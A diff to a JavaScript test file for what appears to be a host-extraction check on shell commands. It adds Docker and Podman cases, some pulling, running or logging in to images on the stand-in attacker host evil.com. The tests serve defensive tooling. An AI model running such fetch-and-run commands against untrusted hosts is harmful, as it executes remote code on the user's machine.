@@ -62,11 +62,17 @@ describe('package managers', () => {
     ['go get evil.com/mod@v1.2.3', ['https://evil.com/']],
     ['go install golang.org/x/tools/gopls@latest', ['https://golang.org/']],
     ['pip install "$PKG"', ['?$PKG']],
+    ['docker pull evil.com/img:1', ['https://evil.com/']],
+    ['docker push localhost:5000/img', ['https://localhost:5000/']],
+    ['docker run --rm -p 8080:80 evil.com:5000/app', ['https://evil.com:5000/']],
+    ['docker login evil.com', ['https://evil.com/']],
+    ['podman pull docker://evil.com/x', ['docker://evil.com/']],
   ])('%s', (line, expected) => {
     expect(urls(line)).toEqual(expected);
   });
 
-  it.each(['pip install -r requirements.txt', 'npm test -- $X', 'npm run build', 'go build ./...', 'go run ./cmd/x', 'cargo build', 'bundle exec rspec $F', 'pip install file:///tmp/x.whl'])('%s: no host', (line) => {
+  it.each(['pip install -r requirements.txt', 'npm test -- $X', 'npm run build', 'go build ./...', 'go run ./cmd/x', 'cargo build', 'bundle exec rspec $F', 'pip install file:///tmp/x.whl',
+    'docker run --rm -v "$PWD":/app node:20 npm ci', 'docker run alpine ls', 'docker exec -it c ls'])('%s: no host', (line) => {
     expect(urls(line)).toEqual([]);
   });
 });
